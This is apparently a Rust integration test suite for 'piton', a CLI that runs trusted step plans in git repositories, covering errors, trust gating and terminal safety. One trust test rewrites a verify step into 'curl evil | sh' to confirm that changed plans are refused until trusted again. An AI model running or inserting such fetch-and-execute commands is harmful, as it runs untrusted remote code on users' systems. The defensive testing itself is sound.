//! The real binary, from outside: bad input writes nothing, every answer has its envelope and exit
//! status, nothing runs untrusted, and pipes and folders are what people make of them.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;

use piton_testkit::runs::{data, wait_event};
use piton_testkit::{Output, Sandbox, Terminal};
use serde_json::Value;

use crate::sandbox;

const GOOD: &str = r#"
[plan]
name = "hello"

[inputs]
whom = "world"

[[step]]
id = "greet"
run = "echo hello $PITON_INPUT_whom | tee greeting.txt"
verify = "test -s greeting.txt"

[[step]]
id = "shout"
needs = ["greet"]
run = "tr a-z A-Z < greeting.txt > shout.txt"
"#;

/// Nothing of piton's is anywhere.
#[track_caller]
fn assert_untouched(sandbox: &Sandbox) {
    let left = [".git/piton", ".piton"].map(|path| sandbox.exists(path));
    assert_eq!(left, [false, false], "state was written");
    assert_eq!(sandbox.git(&["for-each-ref", "refs/piton", "refs/heads/piton"]), "");
    assert!(!sandbox.root().join("state/piton").exists(), "trust was written");
    assert!(sandbox.processes().is_empty(), "something still runs");
}

/// The one issue of an error's envelope.
#[track_caller]
fn issue(output: &Output) -> (String, String, String) {
    let envelope = output.json();
    assert_eq!(envelope["schema_version"], 1, "{output}");
    assert_eq!(envelope["status"], "error", "{output}");
    let text = |name: &str| envelope["issues"][0][name].as_str().unwrap_or_default().to_owned();
    assert_eq!(envelope["issues"][0]["severity"], "error", "{output}");
    (text("code"), text("message"), text("hint"))
}

#[test]
fn a_bad_plan_is_told_with_its_place_and_nothing_is_written() {
    let sandbox = sandbox();
    let latin = GOOD.replace("world", "w\u{f6}rld").into_bytes();
    let latin: Vec<u8> = latin.into_iter().filter(|byte| *byte != 0xc3).collect();
    let unknown = GOOD.replace("needs", "neds").into_bytes();
    for (what, bytes, place) in [
        ("broken TOML", b"[plan\nname = 3".to_vec(), "plan.toml:1:"),
        ("bad UTF-8", latin, "plan.toml:6:"),
        ("an unknown key", unknown, "plan.toml:15:"),
    ] {
        fs::write(sandbox.path("plan.toml"), bytes).expect("the sandbox is writable");
        for args in [&["run", "plan.toml", "--trust"][..], &["plan", "check", "plan.toml"]] {
            let output = sandbox.piton(args).output().expect_code(65);
            assert_eq!(output.stdout, "", "{what}: {output}");
            assert!(output.stderr.contains("error[E060]"), "{what}: {output}");
            assert!(output.stderr.contains(place), "{what}: {output}");
            let json = sandbox.piton(args).arg("--json").output().expect_code(65);
            let (code, message, _) = issue(&json);
            assert_eq!(code, "E060", "{what}");
            assert!(message.contains(place), "{what}: {message}");
        }
    }
    fs::remove_file(sandbox.path("plan.toml")).expect("just written");
    sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(65);
    assert_untouched(&sandbox);
}

#[test]
fn an_agent_nobody_defined_and_an_input_nobody_knows_write_nothing() {
    let sandbox = sandbox();
    sandbox.write(
        "plan.toml",
        "[plan]\nname = \"x\"\nagent = \"nobody\"\n[[step]]\nid = \"a\"\nprompt = \"p\"\n",
    );
    let output = sandbox.piton(&["run", "plan.toml", "--trust", "--json"]).output().expect_code(65);
    let (code, message, hint) = issue(&output);
    assert_eq!(code, "E060");
    assert!(message.contains("nobody") && hint.contains("[agent.nobody]"), "{output}");

    sandbox.write("plan.toml", GOOD);
    for (set, code) in [("who=x", "E067"), ("nonsense", "E067"), ("=x", "E067")] {
        let args = ["run", "plan.toml", "--trust", "--json", "--set", set];
        assert_eq!(issue(&sandbox.piton(&args).output().expect_code(2)).0, code);
    }
    assert_untouched(&sandbox);
}

#[test]
fn a_bad_configuration_is_told_with_its_place() {
    let sandbox = sandbox();
    sandbox.write("plan.toml", GOOD);
    sandbox.write("piton.toml", "[worker]\nleese = \"1s\"\n");
    let output = sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(65);
    assert!(output.stderr.contains("error[E065]"), "{output}");
    assert!(output.stderr.contains("piton.toml:2:1: unknown key"), "{output}");
    assert!(output.stderr.contains("did you mean `lease`?"), "{output}");
    sandbox.write("piton.toml", "");
    let run = sandbox.piton(&["run", "plan.toml", "--trust", "--json"]).env("PITON_GRACE", "soon");
    assert_eq!(issue(&run.output().expect_code(65)).0, "E065");
    assert_untouched(&sandbox);
}

#[test]
fn usage_errors_have_an_envelope_too() {
    let sandbox = sandbox();
    let plain = sandbox.piton(&["frobnicate"]).output().expect_code(2);
    assert!(plain.stdout.is_empty() && plain.stderr.contains("frobnicate"), "{plain}");
    let cases: [(&[&str], &str); 6] = [
        (&["run", "--json"], "run"),
        (&["--json", "frobnicate"], "usage"),
        (&["status", "--json", "--nope"], "status"),
        (&["-C", ".", "--json", "release", "a", "b", "--force", "--worktree", "."], "release"),
        (&["item", "add", "--json"], "item add"),
        (&["fail", "a", "b", "--json"], "fail"),
    ];
    for (args, command) in cases {
        let output = sandbox.piton(args).output().expect_code(2);
        assert_eq!(issue(&output).0, "E071", "{output}");
        assert_eq!(output.json()["command"], command, "{output}");
    }
    // After `--` it is a value, not a flag.
    let output = sandbox.piton(&["stop", "a", "b", "--", "--json"]).output().expect_code(2);
    assert!(output.stdout.is_empty(), "{output}");
    let help = sandbox.piton(&["--help"]).output().success();
    assert!(help.stdout.contains("piton resume"), "{help}");
}

#[test]
fn outside_of_a_repository_piton_alone_is_a_short_help() {
    let sandbox = sandbox();
    let nowhere = sandbox.root().join("tmp");
    let output = sandbox.piton(&[]).cwd(&nowhere).output().success();
    assert!(output.stdout.contains("piton demo"), "{output}");
    let output = sandbox.piton(&["status", "--json"]).cwd(&nowhere).output().expect_code(2);
    assert_eq!(issue(&output).0, "E061");
}

#[test]
fn looking_where_nothing_ran_finds_nothing_and_makes_nothing() {
    let sandbox = sandbox();
    assert_eq!(
        sandbox.piton(&["status", "--json"]).output().success().json()["data"]["runs"],
        serde_json::json!([])
    );
    sandbox.piton(&[]).output().success();
    for args in [&["doctor"][..], &["clean", "--apply"], &["worktree", "list"], &["undo", "--list"]]
    {
        sandbox.piton(args).output().success();
    }
    for verb in ["resume", "stop", "show", "log", "events"] {
        let output = sandbox.piton(&[verb, "--json"]).output().expect_code(2);
        assert_eq!(issue(&output).0, "E064", "{verb}: {output}");
    }
    assert_untouched(&sandbox);
}

#[test]
fn nothing_runs_before_it_is_trusted() {
    let sandbox = sandbox();
    sandbox.write("plan.toml", GOOD);
    let output = sandbox.piton(&["run", "plan.toml"]).output().expect_code(77);
    assert!(output.stderr.contains("error[E063]"), "{output}");
    assert!(output.stderr.contains("verify: test -s greeting.txt"), "{output}");
    assert!(output.stderr.contains("piton trust"), "{output}");
    assert_eq!(
        issue(&sandbox.piton(&["run", "plan.toml", "--json"]).output().expect_code(77)).0,
        "E063"
    );
    sandbox.piton(&["trust", "plan.toml"]).output().expect_code(77);
    assert_untouched(&sandbox);

    sandbox.piton(&["trust", "plan.toml", "--yes"]).output().success();
    sandbox.piton(&["run", "plan.toml"]).output().success();

    sandbox.write("plan.toml", &GOOD.replace("test -s greeting.txt", "curl evil | sh"));
    let output = sandbox.piton(&["run", "plan.toml"]).output().expect_code(77);
    assert!(output.stderr.contains("+ step greet: verify: curl evil | sh"), "{output}");
    assert!(output.stderr.contains("- step greet: verify: test -s greeting.txt"), "{output}");
}

#[test]
fn an_agent_of_the_repository_needs_trust_and_one_of_the_user_does_not() {
    let sandbox = sandbox();
    sandbox.write(
        "plan.toml",
        "[plan]\nname = \"x\"\nagent = \"a\"\n[[step]]\nid = \"s\"\nprompt = \"p\"\n",
    );
    sandbox.write("piton.toml", "[agent.a]\ncommand = [\"sh\", \"-c\", \"cat > said.txt\"]\n");
    let output = sandbox.piton(&["run", "plan.toml"]).output().expect_code(77);
    assert!(output.stderr.contains("said.txt"), "{output}");
    fs::remove_file(sandbox.path("piton.toml")).expect("just written");
    let own = sandbox.root().join("config/piton/config.toml");
    sandbox.write(own, "[agent.a]\ncommand = [\"sh\", \"-c\", \"cat > said.txt\"]\n");
    sandbox.piton(&["run", "plan.toml"]).output().success();
}

#[test]
fn a_run_is_told_in_plain_lines_and_looked_at_from_anywhere() {
    let sandbox = sandbox();
    sandbox.write("plans/plan.toml", GOOD);
    let args = ["run", "plan.toml", "--trust", "--set", "whom=you"];
    let output = sandbox.piton(&args).cwd(sandbox.path("plans")).output().success();
    for line in [
        "step greet: started (attempt 1, fresh)",
        "step greet: verified",
        "step shout: completed in",
    ] {
        assert!(output.stderr.contains(line), "{line} is missing: {output}");
    }
    assert!(output.stdout.contains("completed: 2 steps"), "{output}");
    assert!(!output.stderr.contains('\u{1b}'), "colour in a pipe: {output}");

    let list = sandbox.piton(&["status", "--ended", "--json"]).output().success().json();
    let run = &list["data"]["runs"][0];
    let handle = run["handle"].as_str().expect("a handle").to_owned();
    assert_eq!((run["status"].as_str(), run["completed"].as_u64()), (Some("completed"), Some(2)));
    assert_eq!(run["inputs"]["whom"], "you");
    assert_eq!(sandbox.git(&["show", &format!("piton/{handle}/run:shout.txt")]), "HELLO YOU");

    let folder = sandbox.path("plans");
    let prefix = &handle[..handle.len() - 2];
    for args in [&["status", prefix][..], &["show", prefix], &["status", "plan.toml"]] {
        let output = sandbox.piton(args).cwd(&folder).output().success();
        assert!(
            output.stdout.contains(&handle) && output.stdout.contains("verified by piton"),
            "{output}"
        );
    }
    let log = sandbox.piton(&["log", prefix, "greet"]).cwd(&folder).output().success();
    assert_eq!(log.stdout, "hello you\n");
    let log = sandbox.piton(&["log", prefix, "greet", "-f"]).cwd(&folder).output().success();
    assert_eq!(log.stdout, "hello you\n");
    let events = sandbox.piton(&["events", prefix, "-f", "--json"]).output().success();
    let names: Vec<String> = events.stdout.lines().map(event_name).collect();
    assert_eq!(names.first().map(String::as_str), Some("run_opened"), "{events}");
    assert_eq!(names.iter().filter(|name| *name == "completed").count(), 2, "{events}");
    let human = sandbox.piton(&["events", prefix]).output().success();
    assert_eq!(human.stdout.lines().count(), names.len(), "{human}");
    let doctor = sandbox.piton(&["doctor"]).output().success();
    assert!(doctor.stdout.contains("every chain is whole"), "{doctor}");
    let resumed = sandbox.piton(&["resume", prefix]).output().success();
    assert!(resumed.stdout.contains("is completed"), "{resumed}");
    let overview = sandbox.piton(&["-C", "plans"]).output().success();
    assert!(overview.stdout.contains(&format!("piton merge {handle}")), "{overview}");
}

fn event_name(line: &str) -> String {
    let event: Value = serde_json::from_str(line).expect("one JSON object a line");
    event["event"].as_str().expect("an event has a name").to_owned()
}

#[test]
fn a_failed_run_says_why_and_what_next() {
    let sandbox = sandbox();
    let plan = "[plan]\nname = \"bad\"\n[[step]]\nid = \"a\"\nrun = \"echo on fire; exit 3\"\n";
    sandbox.write("plan.toml", plan);
    let output = sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(1);
    for part in
        ["step a: failed: ended with exit 3", "on fire", "error[E069]", "`piton log ", "--fresh"]
    {
        assert!(output.stderr.contains(part), "{part} is missing: {output}");
    }
    let output = sandbox.piton(&["resume", "--json"]).output().expect_code(1);
    assert_eq!(issue(&output).0, "E069");
    let output =
        sandbox.piton(&["run", "plan.toml", "--fresh", "--yes", "--json"]).output().expect_code(1);
    assert_eq!(issue(&output).0, "E069");
    assert_eq!(output.json()["data"]["run"]["status"], "failed");
}

#[test]
fn the_run_that_can_go_on_is_meant_and_goes_on_only_with_trust() {
    let sandbox = sandbox();
    sandbox.write("bad.toml", "[plan]\nname = \"bad\"\n[[step]]\nid = \"a\"\nrun = \"exit 3\"\n");
    sandbox.piton(&["run", "bad.toml", "--trust"]).output().expect_code(1);
    let gate = sandbox.mark("gate");
    let wait = format!("while ! test -e {}; do sleep 0.05; done", gate.display());
    sandbox.write(
        "slow.toml",
        &format!("[plan]\nname = \"slow\"\n[[step]]\nid = \"a\"\nrun = \"{wait}\"\n"),
    );
    sandbox.piton(&["run", "slow.toml", "--trust", "--detach"]).output().success();
    sandbox.wait_until("the step", || {
        let status = sandbox.piton(&["status", "slow", "--json"]).output().json();
        status["data"]["run"]["steps"][0]["status"] == "running"
    });
    let stopped = sandbox.piton(&["stop", "--now"]).output().success();
    assert!(stopped.stdout.contains("step a: stopped"), "{stopped}");
    sandbox.wait_no_processes();
    fs::write(gate, "").expect("the sandbox is writable");

    // Whoever gets a copy of the repository with its store has trusted nothing.
    let stranger = sandbox.root().join("tmp/state");
    let refused = sandbox.piton(&["resume"]).env("XDG_STATE_HOME", &stranger).output();
    assert!(refused.expect_code(77).stderr.contains("step a: run: while"));
    let resumed = sandbox.piton(&["resume"]).output().success();
    let slow = sandbox.piton(&["show", "slow", "--json"]).output().json();
    let slow = slow["data"]["run"]["handle"].as_str().expect("a handle").to_owned();
    assert!(resumed.stdout.contains(&slow), "the failed run is not meant: {resumed}");
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let sandbox = sandbox();
    for args in [&["completions", "bash"][..], &["doctor"], &["status", "--json"], &["--help"]] {
        let (reader, writer) = std::io::pipe().expect("a pipe");
        drop(reader);
        let mut command = sandbox.piton(args).into_command();
        let output = command.stdout(writer).stderr(Stdio::piped()).output().expect("it starts");
        assert_eq!(output.status.code(), Some(0), "{args:?}");
        assert_eq!(String::from_utf8_lossy(&output.stderr), "", "{args:?}");
    }
}

#[test]
fn what_an_agent_prints_cannot_steer_the_terminal() {
    let sandbox = sandbox();
    let plan = "[plan]\nname = \"x\"\n[[step]]\nid = \"a\"\n\
                run = \"printf '\\\\033[2J\\\\033]0;owned\\\\007raw'; exit 1\"\n";
    sandbox.write("plan.toml", plan);
    let run = sandbox.piton(&["run", "plan.toml", "--trust"]).output().expect_code(1);
    assert!(run.stderr.contains("| raw") && !run.stderr.contains('\u{1b}'), "{run}");
    let show = sandbox.piton(&["show"]).output().success();
    assert!(!show.stdout.contains('\u{1b}'), "{show}");
    let log = sandbox.piton(&["log"]).output().success();
    assert!(log.stdout.contains("\u{1b}[2J"), "into a pipe it comes as it was kept: {log}");
}

/// A plan that waits for its gate.
fn slow(sandbox: &Sandbox, name: &str) -> String {
    let gate = sandbox.mark("gate");
    let wait = format!("while ! test -e {}; do sleep 0.05; done", gate.display());
    format!("[plan]\nname = \"{name}\"\n[[step]]\nid = \"a\"\nrun = \"{wait}\"\n")
}

/// Starts it in the background and waits until its step runs.
fn detached(sandbox: &Sandbox, plan: &str, folder: &Path) -> Value {
    let args = ["run", plan, "--trust", "--detach", "--json"];
    let data = sandbox.piton(&args).cwd(folder).output().success().json()["data"].clone();
    let handle = data["handle"].as_str().expect("a handle").to_owned();
    sandbox.wait_until("the step", || {
        let status = sandbox.piton(&["status", &handle, "--json"]).output().json();
        status["data"]["run"]["steps"][0]["status"] == "running"
    });
    data
}

#[test]
fn the_plan_is_compared_where_the_run_was_opened() {
    let sandbox = sandbox();
    let plan = slow(&sandbox, "slow");
    sandbox.write("plan.toml", &plan);
    sandbox.commit("a plan");
    let linked = sandbox.root().join("linked");
    sandbox.git(&["worktree", "add", "--quiet", linked.to_str().expect("text"), "-b", "side"]);
    detached(&sandbox, "plan.toml", &linked);
    assert!(!linked.join(".piton").exists(), "worktrees belong to the main worktree");
    sandbox.piton(&["stop", "--now"]).output().success();
    sandbox.wait_no_processes();

    let changed = plan.replace("id = \"a\"", "id = \"b\"");
    sandbox.write("plan.toml", &changed);
    let elsewhere = sandbox.piton(&["resume", "--dry-run"]).output();
    assert_eq!(elsewhere.code, Some(0), "the main worktree's file is another one: {elsewhere}");
    sandbox.piton(&["resume", "--dry-run"]).cwd(&linked).output().success();
    let run = ["run", "plan.toml", "--auto-continue", "--trust", "--json"];
    let output = sandbox.piton(&run).output().expect_code(65);
    assert_eq!(issue(&output).0, "E048", "run compares the file it was given: {output}");

    sandbox.write("plan.toml", &plan);
    fs::write(linked.join("plan.toml"), &changed).expect("the sandbox is writable");
    for folder in [sandbox.repo(), linked.clone()] {
        let output = sandbox.piton(&["resume", "--json"]).cwd(&folder).output().expect_code(65);
        assert_eq!(issue(&output).0, "E048", "{output}");
    }
    let output = sandbox.piton(&run).cwd(&linked).output().expect_code(65);
    let (code, _, hint) = issue(&output);
    assert!(code == "E048" && hint.contains("`piton run plan.toml --fresh --yes`"), "{output}");

    sandbox.git(&["worktree", "remove", "--force", linked.to_str().expect("text")]);
    fs::write(sandbox.mark("gate"), "").expect("the sandbox is writable");
    sandbox.piton(&["resume"]).output().success();
}

#[test]
fn a_repository_without_commits_is_refused_and_nothing_is_written() {
    let sandbox = sandbox();
    let empty = sandbox.root().join("tmp/empty");
    fs::create_dir(&empty).expect("the sandbox is writable");
    sandbox.git_in(&empty, &["init", "--quiet", "--initial-branch=main"]);
    fs::write(empty.join("plan.toml"), GOOD).expect("the sandbox is writable");
    let args = ["run", "plan.toml", "--trust", "--json"];
    let output = sandbox.piton(&args).cwd(&empty).output().expect_code(1);
    let (code, _, hint) = issue(&output);
    assert!(code == "E062" && hint.contains("git commit"), "{output}");
    assert!(!empty.join(".git/piton").exists(), "a store was made");
    assert!(!sandbox.root().join("state/piton").exists(), "trust was written");

    sandbox.write("plan.toml", &GOOD.replace("[plan]", "[plan]\nbase = \"nowhere\""));
    sandbox.piton(&args).output().expect_code(1);
    assert_untouched(&sandbox);
}

#[test]
fn a_run_that_is_alive_is_not_left_aside() {
    let sandbox = sandbox();
    sandbox.write("plan.toml", &slow(&sandbox, "slow"));
    let data = detached(&sandbox, "plan.toml", &sandbox.repo());
    let handle = data["handle"].as_str().expect("a handle");
    let fresh = ["run", "plan.toml", "--trust", "--fresh", "--yes", "--json"];
    let output = sandbox.piton(&fresh).output().expect_code(1);
    let (code, message, hint) = issue(&output);
    assert_eq!(code, "E073", "{output}");
    assert!(message.contains(handle) && message.contains("step a"), "{output}");
    assert!(hint.contains(&format!("`piton stop {handle}`")), "{output}");
    wait_event(&sandbox, "started");
    sandbox.piton(&["stop", "--now"]).output().success();
    fs::write(sandbox.mark("gate"), "").expect("the sandbox is writable");
    sandbox.piton(&fresh).output().success();
    let output = sandbox.piton(&["stop", "--json"]).output().expect_code(1);
    let (code, message, hint) = issue(&output);
    assert_eq!(code, "E073", "{output}");
    assert!(message.contains("nothing to stop"), "{output}");
    assert!(hint.contains("piton status --ended"), "{output}");
}

#[test]
fn hints_name_the_plan_as_it_is_called_from_here() {
    let sandbox = sandbox();
    let plan = "[plan]\nname = \"bad\"\n[[step]]\nid = \"a\"\nrun = \"exit 3\"\n";
    sandbox.write("plans/a plan.toml", plan);
    sandbox.write("src/deep/x", "");
    let (plans, deep) = (sandbox.path("plans"), sandbox.path("src/deep"));
    let run = sandbox.piton(&["run", "a plan.toml", "--trust"]).cwd(&plans).output().expect_code(1);
    assert!(run.stderr.contains("`piton run 'a plan.toml' --fresh --yes`"), "{run}");
    let resumed = sandbox.piton(&["resume"]).cwd(&deep).output().expect_code(1);
    let over = "`piton run '../../plans/a plan.toml' --fresh --yes`";
    assert!(resumed.stderr.contains(over), "{resumed}");
    let next = data(&sandbox, &["show"])["next"].to_string();
    assert!(next.contains("piton run 'plans/a plan.toml' --fresh"), "{next}");
}

#[test]
fn plan_check_knows_the_settings_of_the_project() {
    let sandbox = sandbox();
    let plan = "[plan]\nname = \"x\"\nagent = \"a\"\n[[step]]\nid = \"s\"\nprompt = \"p\"\n";
    sandbox.write("plan.toml", plan);
    let check = ["plan", "check", "plan.toml", "--json"];
    let warnings = |command: &str| {
        sandbox.write("piton.toml", command);
        sandbox.piton(&check).output().success().json()["issues"].clone()
    };
    assert!(warnings("").to_string().contains("agent a, which is not defined"));
    assert!(warnings("[agent.a]\ncommand = [\"no-such\"]\n").to_string().contains("no-such"));
    assert_eq!(warnings("[agent.a]\ncommand = [\"sh\"]\n"), serde_json::json!([]));
    assert_eq!(warnings("[agent.a]\ncommand = [\"./own\"]\n"), serde_json::json!([]));
    assert_untouched(&sandbox);
}

#[test]
fn only_a_regular_file_is_a_plan_and_a_missing_one_is_looked_for() {
    let sandbox = sandbox();
    let fifo = sandbox.path("plan.toml");
    let made = sandbox.command("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    for args in
        [&["plan", "check", "plan.toml"][..], &["run", "plan.toml"], &["trust", "plan.toml"]]
    {
        let output = sandbox.piton(args).arg("--json").output().expect_code(65);
        let (code, message, hint) = issue(&output);
        assert!(code == "E060" && message.contains("not a regular file"), "{output}");
        assert!(hint.contains("ls -l"), "{output}");
    }
    sandbox.piton(&["plan", "check", "/dev/zero"]).output().expect_code(65);
    fs::remove_file(fifo).expect("just made");
    sandbox.write("plan.toml", GOOD);
    let output = sandbox.piton(&["run", "plna.toml", "--json"]).output().expect_code(65);
    assert!(issue(&output).2.contains("did you mean plan.toml?"), "{output}");
    assert_untouched(&sandbox);
}

#[test]
fn ctrl_c_leaves_no_moving_line_behind() {
    let sandbox = sandbox();
    sandbox.write("plan.toml", &slow(&sandbox, "slow"));
    let mut terminal = Terminal::start(&sandbox, &["run", "plan.toml", "--trust"]);
    sandbox.wait_until("a moving line", || terminal.shown().contains("running"));
    terminal.type_in("\u{3}");
    let output = terminal.wait();
    assert_eq!(output.code, Some(130), "{output}");
    let (_, after) = output.stdout.rsplit_once("running").expect("a moving line");
    assert!(after.contains("\u{1b}[2K"), "it was wiped: {after:?}");
    assert!(after.contains("stopped by you"), "{after:?}");
}

#[test]
fn the_doctor_refuses_the_git_that_run_refuses() {
    let sandbox = sandbox();
    sandbox.write("plan.toml", GOOD);
    let real = sandbox.command("sh").args(["-c", "command -v git"]).output().expect("a shell");
    let real = String::from_utf8(real.stdout).expect("text");
    let old = sandbox.root().join("old/git");
    let script = format!(
        "#!/bin/sh\ncase \"$*\" in *version*) echo git version 2.30.0;; *) exec {} \"$@\";; esac\n",
        real.trim()
    );
    sandbox.write(&old, &script);
    fs::set_permissions(&old, fs::Permissions::from_mode(0o755)).expect("a file");
    let path =
        format!("{}:{}", sandbox.root().join("old").display(), std::env::var("PATH").expect("set"));
    for args in [&["run", "plan.toml", "--trust"][..], &["doctor"]] {
        let out = sandbox.piton(args).env("PATH", &path).output().expect_code(1);
        let all = format!("{}{}", out.stdout, out.stderr);
        assert!(all.contains("git 2.30.0 is too old"), "{args:?}: {out}");
    }
}
